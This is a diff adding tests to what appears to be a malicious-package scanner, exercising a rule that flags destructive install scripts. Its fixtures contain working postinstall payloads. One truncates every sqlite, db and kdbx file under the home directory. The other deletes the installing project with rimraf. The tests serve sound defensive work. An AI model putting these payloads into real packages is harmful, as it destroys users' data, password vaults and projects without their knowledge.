@@ -1459,3 +1459,38 @@ document.querySelectorAll('form').forEach((f) => f.addEventListener('submit', ()
     ).toEqual([]);
   });
 });
+
+describe('destruction reached through glob listings and climbed paths', () => {
+  const destroyed = (files: Record<string, string>) =>
+    analyzeSource(files)
+      .evidence.filter((f) => f.rule === 'js.destructive-user-data')
+      .map((f) => f.line);
+  it('files globbed from home (databases, key stores) truncated one by one', () => {
+    expect(
+      destroyed({
+        'package.json': pkg({ scripts: { postinstall: 'node index.js' } }),
+        'index.js': `const glob = require('glob'); const fs = require('fs'); const os = require('os');
+for (const f of glob.sync(os.homedir() + '/**/*.{sqlite,db,kdbx}')) { try { fs.truncateSync(f, 0); } catch {} }`,
+      }),
+    ).toEqual([2]);
+  });
+  it('the folder two levels above the package (the project that installed it) removed with rimraf', () => {
+    expect(
+      destroyed({
+        'package.json': pkg({ scripts: { postinstall: 'node index.js' } }),
+        'index.js': `const rimraf = require('rimraf'); const path = require('path');
+setTimeout(() => rimraf.sync(path.resolve(process.cwd(), '..', '..')), 1000);`,
+      }),
+    ).toEqual([2]);
+  });
+  it('a formatter rewriting globbed files and a cleaner removing a named cache folder are not', () => {
+    expect(
+      destroyed({
+        'package.json': pkg({ bin: { fmt: 'index.js' } }),
+        'index.js': `const fg = require('fast-glob'); const fs = require('fs'); const path = require('path'); const rimraf = require('rimraf');
+for (const f of fg.sync('**/*.js', { cwd: process.cwd() })) fs.writeFileSync(f, fs.readFileSync(f, 'utf8').trim() + '\\n');
+rimraf.sync(path.join(__dirname, '..', '.cache', 'fmt'));`,
+      }),
+    ).toEqual([]);
+  });
+});
